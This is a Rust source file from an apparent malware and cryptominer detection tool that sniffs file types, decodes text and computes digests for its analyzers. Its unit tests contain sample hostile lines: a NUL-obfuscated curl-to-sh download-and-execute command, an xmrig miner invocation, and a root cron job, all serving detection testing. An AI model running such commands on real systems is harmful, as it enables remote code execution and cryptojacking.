//! What every analyzer is handed for one file: where it came from, the bytes read once, the
//! sniffed kind, and the derived views (digests, printable strings) computed at most once, on
//! first use, so that a file no analyzer asks about costs nothing more.

use crate::knowledge::indicators::{Hit, Indicators, NeedleHit, Scan};
use crate::scan::quoting::{Markup, Quotes, Quoting};
use crate::scan::target::Target;
use md5::Md5;
use sha1::Sha1;
use sha2::{Digest, Sha256};
use std::cell::OnceCell;

/// What a file is, sniffed from its first bytes, a shebang or its name. Analyzers use it to skip
/// files they cannot judge.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FileKind {
    Empty,
    Elf,
    Pe,
    MachO,
    /// A universal (fat) Mach-O. 0xCAFEBABE also starts Java class files; see `sniff`.
    MachOFat,
    JavaClass,
    Wasm,
    Zip,
    Gzip,
    Xz,
    Bzip2,
    Tar,
    /// An `ar` archive: Debian packages and static libraries.
    Ar,
    /// A Chia proof-of-space plot file.
    ChiaPlot,
    Shell,
    PowerShell,
    Batch,
    VbScript,
    JavaScript,
    Python,
    Perl,
    Html,
    Json,
    Xml,
    /// YARA, Sigma, Snort or Suricata rules: full of indicators, never a miner.
    Rules,
    /// Other text.
    Text,
    /// Other binary data.
    Data,
}

impl FileKind {
    pub fn is_executable_format(self) -> bool {
        matches!(
            self,
            FileKind::Elf | FileKind::Pe | FileKind::MachO | FileKind::MachOFat
        )
    }

    pub fn is_script(self) -> bool {
        matches!(
            self,
            FileKind::Shell
                | FileKind::PowerShell
                | FileKind::Batch
                | FileKind::VbScript
                | FileKind::JavaScript
                | FileKind::Python
                | FileKind::Perl
        )
    }

    /// Text of any sort, including scripts, markup and configs.
    pub fn is_text(self) -> bool {
        self.is_script()
            || matches!(
                self,
                FileKind::Html | FileKind::Json | FileKind::Xml | FileKind::Rules | FileKind::Text
            )
    }

    pub fn is_archive(self) -> bool {
        matches!(
            self,
            FileKind::Zip
                | FileKind::Gzip
                | FileKind::Xz
                | FileKind::Bzip2
                | FileKind::Tar
                | FileKind::Ar
        )
    }

    pub fn as_str(self) -> &'static str {
        match self {
            FileKind::Empty => "empty",
            FileKind::Elf => "elf",
            FileKind::Pe => "pe",
            FileKind::MachO => "macho",
            FileKind::MachOFat => "macho_fat",
            FileKind::JavaClass => "java_class",
            FileKind::Wasm => "wasm",
            FileKind::Zip => "zip",
            FileKind::Gzip => "gzip",
            FileKind::Xz => "xz",
            FileKind::Bzip2 => "bzip2",
            FileKind::Tar => "tar",
            FileKind::Ar => "ar",
            FileKind::ChiaPlot => "chia_plot",
            FileKind::Shell => "shell",
            FileKind::PowerShell => "powershell",
            FileKind::Batch => "batch",
            FileKind::VbScript => "vbscript",
            FileKind::JavaScript => "javascript",
            FileKind::Python => "python",
            FileKind::Perl => "perl",
            FileKind::Html => "html",
            FileKind::Json => "json",
            FileKind::Xml => "xml",
            FileKind::Rules => "rules",
            FileKind::Text => "text",
            FileKind::Data => "data",
        }
    }
}

/// How many leading bytes the sniffer looks at, and how many a header-only view reads.
pub const SNIFF_LEN: usize = 4096;

/// Sniffs the kind from the first bytes and the file name (the last path component).
pub fn sniff(bytes: &[u8], name: &str) -> FileKind {
    if bytes.is_empty() {
        return FileKind::Empty;
    }
    let head = &bytes[..bytes.len().min(SNIFF_LEN)];
    if head.starts_with(b"\x7fELF") {
        return FileKind::Elf;
    }
    if head.starts_with(b"MZ") {
        return FileKind::Pe;
    }
    if head.len() >= 4 {
        let magic = u32::from_be_bytes([head[0], head[1], head[2], head[3]]);
        match magic {
            0xFEEDFACE | 0xFEEDFACF | 0xCEFAEDFE | 0xCFFAEDFE => return FileKind::MachO,
            0xCAFEBABE | 0xBEBAFECA => {
                // A fat header counts architectures (a handful); a class file has its version there
                // (major version 45 and up), so a small count means Mach-O.
                let count = if magic == 0xCAFEBABE && head.len() >= 8 {
                    u32::from_be_bytes([head[4], head[5], head[6], head[7]])
                } else if head.len() >= 8 {
                    u32::from_le_bytes([head[4], head[5], head[6], head[7]])
                } else {
                    u32::MAX
                };
                return if count > 0 && count < 30 {
                    FileKind::MachOFat
                } else {
                    FileKind::JavaClass
                };
            }
            _ => {}
        }
    }
    if head.starts_with(b"\0asm") {
        return FileKind::Wasm;
    }
    if head.starts_with(b"PK\x03\x04") || head.starts_with(b"PK\x05\x06") {
        return FileKind::Zip;
    }
    if head.starts_with(b"\x1f\x8b") {
        return FileKind::Gzip;
    }
    if head.starts_with(b"\xfd7zXZ\0") {
        return FileKind::Xz;
    }
    if head.starts_with(b"BZh") && head.len() > 3 && head[3].is_ascii_digit() {
        return FileKind::Bzip2;
    }
    if head.starts_with(b"!<arch>\n") {
        return FileKind::Ar;
    }
    if head.starts_with(b"Proof of Space Plot") {
        return FileKind::ChiaPlot;
    }
    if head.len() >= 263 && &head[257..262] == b"ustar" {
        return FileKind::Tar;
    }
    if let Some(decoded) = utf16le_text(head) {
        return sniff_text(decoded.as_bytes(), name);
    }
    // A script names its interpreter on its first line, and the interpreter runs it whatever
    // bytes follow (shells drop NULs): its structure, not the mix of its bytes, makes it one.
    let first_line = &head[..memchr::memchr(b'\n', head).unwrap_or(head.len())];
    let shebang = head.starts_with(b"#!") && !first_line.contains(&0);
    if !shebang && !looks_like_text(head) {
        return FileKind::Data;
    }
    sniff_text(head, name)
}

/// Decodes UTF-16LE text that has no byte-order mark (Windows Task Scheduler XML, .reg
/// exports): mostly ASCII-range characters with NUL high bytes. `None` when it is not that.
pub fn utf16le_text(b: &[u8]) -> Option<String> {
    if b.len() < 8 || b[1] != 0 || b[0] == 0 || !b[0].is_ascii() {
        return None;
    }
    let sample = &b[..b.len().min(1024) & !1];
    let pairs = sample.len() / 2;
    let ascii = sample
        .chunks_exact(2)
        .filter(|c| c[1] == 0 && c[0] != 0 && (c[0] >= 0x20 || c[0].is_ascii_whitespace()))
        .count();
    if ascii * 10 < pairs * 9 {
        return None;
    }
    Some(decode_utf16(&b[..b.len() & !1], u16::from_le_bytes))
}

fn sniff_text(head: &[u8], name: &str) -> FileKind {
    let lower_name = name.to_ascii_lowercase();
    if let Some(line) = head.strip_prefix(b"#!") {
        let end = memchr::memchr(b'\n', line).unwrap_or(line.len());
        let interp = String::from_utf8_lossy(&line[..end]);
        let interp = interp.as_ref();
        for (needle, kind) in [
            ("python", FileKind::Python),
            ("perl", FileKind::Perl),
            ("pwsh", FileKind::PowerShell),
            ("powershell", FileKind::PowerShell),
            ("node", FileKind::JavaScript),
            ("sh", FileKind::Shell),
        ] {
            if interp.contains(needle) {
                return kind;
            }
        }
    }
    let ext = lower_name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    let by_ext = match ext {
        "sh" | "bash" | "zsh" | "ksh" => Some(FileKind::Shell),
        "ps1" | "psm1" | "psd1" => Some(FileKind::PowerShell),
        "bat" | "cmd" => Some(FileKind::Batch),
        "vbs" | "vbe" => Some(FileKind::VbScript),
        "js" | "mjs" | "cjs" | "jse" => Some(FileKind::JavaScript),
        "py" | "pyw" => Some(FileKind::Python),
        "pl" | "pm" => Some(FileKind::Perl),
        "html" | "htm" | "xhtml" | "php" => Some(FileKind::Html),
        "json" | "jsonc" => Some(FileKind::Json),
        "xml" => Some(FileKind::Xml),
        _ => None,
    };
    if let Some(kind) = by_ext {
        return kind;
    }
    let text = String::from_utf8_lossy(head);
    let trimmed = text.trim_start_matches('\u{feff}').trim_start();
    if trimmed.starts_with('{') || trimmed.starts_with('[') {
        return FileKind::Json;
    }
    let lower = trimmed.to_ascii_lowercase();
    if lower.starts_with("<!doctype html")
        || lower.starts_with("<html")
        || lower.contains("<script")
    {
        return FileKind::Html;
    }
    if lower.starts_with("<?xml") {
        return FileKind::Xml;
    }
    if lower.starts_with("@echo off") {
        return FileKind::Batch;
    }
    // A rule set is recognised from the whole file's structure (`quoting`), never from a name
    // or a line: see `FileContext::new`.
    FileKind::Text
}

/// Text if it is UTF-16 with a BOM, or most of its bytes other than NULs are printable and NULs
/// are stray (at most one byte in four): one NUL near the start does not make a script data.
pub fn looks_like_text(head: &[u8]) -> bool {
    if head.starts_with(b"\xff\xfe") || head.starts_with(b"\xfe\xff") {
        return true;
    }
    let nuls = memchr::memchr_iter(0, head).count();
    let rest = head.len() - nuls;
    if rest == 0 || nuls * 4 > head.len() {
        return false;
    }
    let printable = head
        .iter()
        .filter(|&&b| b >= 0x20 || b == b'\n' || b == b'\r' || b == b'\t' || b == 0x0c || b == 0x1b)
        .count();
    printable * 100 >= rest * 95
}

/// The digests of one file, hex-encoded. Each is `None` when nothing asked for it.
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Digests {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub md5: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sha1: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub sha256: Option<String>,
}

/// Which digests a caller wants (an IOC list of SHA-256 entries needs only SHA-256).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct DigestSet {
    pub md5: bool,
    pub sha1: bool,
    pub sha256: bool,
}

impl DigestSet {
    pub const ALL: DigestSet = DigestSet {
        md5: true,
        sha1: true,
        sha256: true,
    };

    pub fn any(self) -> bool {
        self.md5 || self.sha1 || self.sha256
    }
}

/// Digests streamed over a whole file (for files too large to read whole).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct StreamedDigests {
    pub md5: Option<[u8; 16]>,
    pub sha1: Option<[u8; 20]>,
    pub sha256: Option<[u8; 32]>,
}

/// Feeds the wanted digests from a stream of chunks.
pub struct StreamingHasher {
    md5: Option<Md5>,
    sha1: Option<Sha1>,
    sha256: Option<Sha256>,
}

impl StreamingHasher {
    pub fn new(set: DigestSet) -> StreamingHasher {
        StreamingHasher {
            md5: set.md5.then(Md5::new),
            sha1: set.sha1.then(Sha1::new),
            sha256: set.sha256.then(Sha256::new),
        }
    }

    pub fn update(&mut self, chunk: &[u8]) {
        if let Some(h) = &mut self.md5 {
            h.update(chunk);
        }
        if let Some(h) = &mut self.sha1 {
            h.update(chunk);
        }
        if let Some(h) = &mut self.sha256 {
            h.update(chunk);
        }
    }

    pub fn finish(self) -> StreamedDigests {
        StreamedDigests {
            md5: self.md5.map(|h| h.finalize().into()),
            sha1: self.sha1.map(|h| h.finalize().into()),
            sha256: self.sha256.map(|h| h.finalize().into()),
        }
    }
}

pub fn hex(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut out = String::with_capacity(bytes.len() * 2);
    for &b in bytes {
        out.push(DIGITS[(b >> 4) as usize] as char);
        out.push(DIGITS[(b & 15) as usize] as char);
    }
    out
}

/// What the filesystem says about a file, from one fstat of the open handle.
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize)]
pub struct FileMeta {
    pub dev: u64,
    pub ino: u64,
    pub mode: u32,
    pub uid: u32,
    pub gid: u32,
    /// Seconds since the epoch.
    pub mtime: i64,
    pub ctime: i64,
    pub atime: i64,
    /// Nanoseconds within `mtime` and `ctime`: the cache compares them too.
    pub mtime_nsec: i64,
    pub ctime_nsec: i64,
    /// Birth time (statx), where the filesystem records it.
    pub btime: Option<i64>,
}

/// Everything the analyzers get for one file. Built once per file by the worker.
pub struct FileContext<'a> {
    pub target: &'a Target,
    /// The shared facts matcher, so that its hits are computed once for all analyzers.
    pub indicators: &'a Indicators,
    /// The bytes read: the whole file, or its first `SNIFF_LEN` bytes in a header-only view.
    pub bytes: &'a [u8],
    /// The file's size on disk (or as far as it was read, when larger than reported).
    pub size: u64,
    /// True when `bytes` is not the whole file (header-only view, or the file grew while read).
    pub truncated: bool,
    pub kind: FileKind,
    /// Filesystem metadata, when the target is a file on disk.
    pub meta: Option<FileMeta>,
    md5: OnceCell<Option<[u8; 16]>>,
    sha1: OnceCell<Option<[u8; 20]>>,
    sha256: OnceCell<Option<[u8; 32]>>,
    text: OnceCell<Option<String>>,
    scan: OnceCell<Scan>,
    /// How the text quotes what it mentions (`quoting`), and where its lines end in `bytes`.
    data_quotes: OnceCell<Option<Quotes>>,
    doc_quotes: OnceCell<Option<Quotes>>,
    line_ends: OnceCell<Vec<usize>>,
}

/// Most indicator hits kept per file.
pub const MAX_INDICATOR_HITS: usize = 4096;

impl<'a> FileContext<'a> {
    pub fn new(
        target: &'a Target,
        indicators: &'a Indicators,
        bytes: &'a [u8],
        size: u64,
        truncated: bool,
    ) -> FileContext<'a> {
        let kind = sniff(bytes, target.file_name());
        let mut ctx = FileContext {
            target,
            indicators,
            bytes,
            size,
            truncated,
            kind,
            meta: None,
            md5: OnceCell::new(),
            sha1: OnceCell::new(),
            sha256: OnceCell::new(),
            text: OnceCell::new(),
            scan: OnceCell::new(),
            data_quotes: OnceCell::new(),
            doc_quotes: OnceCell::new(),
            line_ends: OnceCell::new(),
        };
        // A rule set is a kind of its own, but only as a whole file: the head only decides
        // whether to look.
        if kind == FileKind::Text
            && !truncated
            && crate::scan::quoting::may_be_rules(&String::from_utf8_lossy(
                &bytes[..bytes.len().min(SNIFF_LEN)],
            ))
            && ctx.data_quotes().is_some_and(|q| q.what == Quoting::Rules)
        {
            ctx.kind = FileKind::Rules;
        }
        ctx
    }

    /// How the text quotes what it mentions (a rule set's literals, a list's entries, a
    /// document's examples); `None` for most files, and for views that are not whole.
    pub fn quotes(&self) -> Option<&Quotes> {
        self.data_quotes().or_else(|| {
            self.doc_quotes
                .get_or_init(|| crate::scan::quoting::document(self.text()?, self.markup()?))
                .as_ref()
        })
    }

    /// What a rule set or a list quotes as data: all that miner facts need, and much cheaper to
    /// work out than a document's examples.
    fn data_quotes(&self) -> Option<&Quotes> {
        self.data_quotes
            .get_or_init(|| crate::scan::quoting::data(self.text()?, self.markup()?))
            .as_ref()
    }

    /// The kind of markup a text may quote in; scripts and JSON never quote (every line of
    /// them is code or configuration), nor do views that are not whole.
    fn markup(&self) -> Option<Markup> {
        if self.truncated {
            return None;
        }
        match self.kind {
            FileKind::Text | FileKind::Rules => Some(Markup::Plain),
            FileKind::Html => Some(Markup::Html),
            FileKind::Xml => Some(Markup::Xml),
            _ => None,
        }
    }

    /// How line `line` (1-based, of `text()`) is quoted, if it is.
    pub fn quoted_line(&self, line: usize) -> Option<Quoting> {
        self.quotes().filter(|q| q.quoted(line)).map(|q| q.what)
    }

    /// Whether the miner facts at byte `offset` of `bytes` are quoted data (in a rule set's
    /// literal or a list's entry): then they are information, not a miner.
    pub fn fact_quoted_at(&self, offset: usize) -> bool {
        let Some(q) = self.data_quotes() else {
            return false;
        };
        let ends = self
            .line_ends
            .get_or_init(|| memchr::memchr_iter(b'\n', self.bytes).collect());
        q.quoted(ends.partition_point(|&e| e < offset) + 1)
    }

    /// The shared indicator matcher's hits over the whole buffer (ASCII, case-insensitive),
    /// computed once for all analyzers.
    pub fn indicator_hits(&self) -> &[Hit] {
        &self.shared_scan().facts
    }

    /// The needles analyzers asked the shared pass for (the binary analyzer's function names
    /// and texts), found in the same pass as the indicator hits.
    pub fn needle_hits(&self) -> &[NeedleHit] {
        &self.shared_scan().needles
    }

    fn shared_scan(&self) -> &Scan {
        self.scan.get_or_init(|| {
            // Text is searched by regions too: a script may carry a binary payload.
            let regions = self
                .indicators
                .regions_suffice()
                .then(|| crate::knowledge::regions::printable_regions(self.bytes));
            self.indicators
                .scan(self.bytes, regions.as_deref(), MAX_INDICATOR_HITS)
        })
    }

    pub fn with_meta(mut self, meta: FileMeta) -> FileContext<'a> {
        self.meta = Some(meta);
        self
    }

    /// A header-only view of a larger file, with the digests streamed over the whole file.
    pub fn with_streamed_digests(self, d: StreamedDigests) -> FileContext<'a> {
        let _ = self.md5.set(d.md5);
        let _ = self.sha1.set(d.sha1);
        let _ = self.sha256.set(d.sha256);
        self
    }

    /// Each digest is computed at most once, on first use; a header-only view has only what was
    /// streamed.
    pub fn md5(&self) -> Option<[u8; 16]> {
        *self
            .md5
            .get_or_init(|| (!self.truncated).then(|| Md5::digest(self.bytes).into()))
    }

    pub fn sha1(&self) -> Option<[u8; 20]> {
        *self
            .sha1
            .get_or_init(|| (!self.truncated).then(|| Sha1::digest(self.bytes).into()))
    }

    pub fn sha256(&self) -> Option<[u8; 32]> {
        *self
            .sha256
            .get_or_init(|| (!self.truncated).then(|| Sha256::digest(self.bytes).into()))
    }

    /// The digests for the report: those already computed, plus all three when `want_all`.
    pub fn report_digests(&self, want_all: bool) -> Digests {
        if want_all {
            self.md5();
            self.sha1();
            self.sha256();
        }
        Digests {
            md5: self.md5.get().copied().flatten().map(|d| hex(&d)),
            sha1: self.sha1.get().copied().flatten().map(|d| hex(&d)),
            sha256: self.sha256.get().copied().flatten().map(|d| hex(&d)),
        }
    }

    /// The file as text: UTF-8 (lossily), or UTF-16 decoded when it has a BOM or is mostly
    /// ASCII-in-UTF-16LE (Windows Task Scheduler XML, .reg files). `None` for binary data.
    pub fn text(&self) -> Option<&str> {
        self.text
            .get_or_init(|| decode_text(self.bytes, self.kind))
            .as_deref()
    }
}

/// Decodes text for the text analyzers; binary kinds give `None`. 8-bit text stops at a NUL.
pub fn decode_text(bytes: &[u8], kind: FileKind) -> Option<String> {
    if !kind.is_text() {
        return None;
    }
    if let Some(rest) = bytes.strip_prefix(b"\xff\xfe") {
        return Some(decode_utf16(rest, u16::from_le_bytes));
    }
    if let Some(rest) = bytes.strip_prefix(b"\xfe\xff") {
        return Some(decode_utf16(rest, u16::from_be_bytes));
    }
    if let Some(text) = utf16le_text(bytes) {
        return Some(text);
    }
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    Some(lossy_without_nuls(bytes))
}

/// 8-bit text as the analyzers read it: the whole file, NULs dropped (shells drop them too, so
/// `cu\0rl` runs curl, and a stray NUL must neither end the text nor split a word), and each
/// invalid UTF-8 sequence one `?`, so that a binary payload after a script (a self-extracting
/// installer) costs no more than its own size.
fn lossy_without_nuls(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for chunk in bytes.utf8_chunks() {
        let valid = chunk.valid();
        if valid.contains('\0') {
            out.extend(valid.chars().filter(|&c| c != '\0'));
        } else {
            out.push_str(valid);
        }
        if !chunk.invalid().is_empty() {
            out.push('?');
        }
    }
    out
}

fn decode_utf16(bytes: &[u8], word: fn([u8; 2]) -> u16) -> String {
    let units = bytes.chunks_exact(2).map(|c| word([c[0], c[1]]));
    char::decode_utf16(units)
        .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sniffs_formats_from_bytes_not_names() {
        assert_eq!(sniff(b"\x7fELF\x02\x01", "notes.txt"), FileKind::Elf);
        assert_eq!(sniff(b"MZ\x90\0", "a.sh"), FileKind::Pe);
        assert_eq!(
            sniff(b"\xca\xfe\xba\xbe\0\0\0\x02", "x"),
            FileKind::MachOFat
        );
        assert_eq!(
            sniff(b"\xca\xfe\xba\xbe\0\0\0\x34", "x"),
            FileKind::JavaClass
        );
        assert_eq!(
            sniff(b"#!/usr/bin/env python3\nprint(1)\n", "run"),
            FileKind::Python
        );
        assert_eq!(sniff(b"#!/bin/bash\necho\n", "run"), FileKind::Shell);
        assert_eq!(sniff(b"  {\"pools\": []}", "config"), FileKind::Json);
        assert_eq!(sniff(b"hello\n", "a.ps1"), FileKind::PowerShell);
        assert_eq!(sniff(b"\0\x01\x02\x03", "a.ps1"), FileKind::Data);
        assert_eq!(sniff(b"", "a"), FileKind::Empty);
        assert_eq!(
            sniff(b"Proof of Space Plot\0\0", "x.plot"),
            FileKind::ChiaPlot
        );
        // A rule set is one by its whole structure, whatever its name; one line is not enough.
        let target = Target::for_bytes("a.txt");
        let rules = b"rule a { strings: $a = \"x\" condition: $a }";
        let ctx = FileContext::new(&target, Indicators::builtin(), rules, 44, false);
        assert_eq!(ctx.kind, FileKind::Rules);
        let cron = b"# rule x condition:\n* * * * * root /tmp/x\n";
        let ctx = FileContext::new(&target, Indicators::builtin(), cron, 40, false);
        assert_eq!(ctx.kind, FileKind::Text);
        assert_eq!(sniff(rules, "x.yar"), FileKind::Text);
    }

    #[test]
    fn nuls_neither_end_nor_hide_text() {
        // One NUL near the start: still a script, read whole, the NUL dropped as a shell does.
        let script = b"#!/bin/sh\n\0cu\0rl -s http://203.0.113.5/x | sh\n";
        assert_eq!(sniff(script, "run"), FileKind::Shell);
        assert_eq!(sniff(&script[10..], "run.txt"), FileKind::Text);
        let text = decode_text(script, FileKind::Shell).unwrap();
        assert!(
            text.contains("curl -s http://203.0.113.5/x | sh"),
            "{text:?}"
        );
        // Text after a binary payload is read too; each invalid sequence is one `?`.
        let mut data = b"#!/bin/sh\ntail -n +4 \"$0\" | tar xz\n".to_vec();
        data.extend_from_slice(b"\x1f\x8b\x08\0\0\0\xff\xfe\0\0\nxmrig --donate-level 1\n");
        let text = decode_text(&data, FileKind::Shell).unwrap();
        assert!(
            text.ends_with("\x1f?\x08??\nxmrig --donate-level 1\n"),
            "{text:?}"
        );
        // Mostly NULs without a shebang is still binary data.
        assert_eq!(sniff(b"ab\0\0\0\0\0\0cd\0\0", "x"), FileKind::Data);
    }

    #[test]
    fn decodes_utf16_text() {
        let mut data = vec![0xff, 0xfe];
        for c in "<Task>schtasks</Task>".encode_utf16() {
            data.extend_from_slice(&c.to_le_bytes());
        }
        assert_eq!(sniff(&data, "task"), FileKind::Text);
        assert_eq!(
            decode_text(&data, FileKind::Text).unwrap(),
            "<Task>schtasks</Task>"
        );
    }

    #[test]
    fn sniffs_utf16le_without_bom_as_text() {
        let mut data = Vec::new();
        for c in "<?xml version=\"1.0\"?>\r\n<Task><Exec>x</Exec></Task>".encode_utf16() {
            data.extend_from_slice(&c.to_le_bytes());
        }
        assert_eq!(sniff(&data, "MinerTask"), FileKind::Xml);
        assert!(decode_text(&data, FileKind::Xml)
            .unwrap()
            .contains("<Task>"));
        // Binary data with many NULs is not mistaken for it.
        assert_eq!(utf16le_text(b"\x01\x00\x02\x00\x03\x00\x04\x00"), None);
    }

    #[test]
    fn digests_are_lazy_and_match_known_values() {
        let target = Target::for_bytes("x");
        let ctx = FileContext::new(&target, Indicators::builtin(), b"abc", 3, false);
        assert_eq!(ctx.report_digests(false), Digests::default());
        assert_eq!(
            hex(&ctx.sha256().unwrap()),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        let d = ctx.report_digests(false);
        assert!(d.md5.is_none(), "md5 was not asked for");
        assert_eq!(
            ctx.report_digests(true).md5.unwrap(),
            "900150983cd24fb0d6963f7d28e17f72"
        );
    }
}
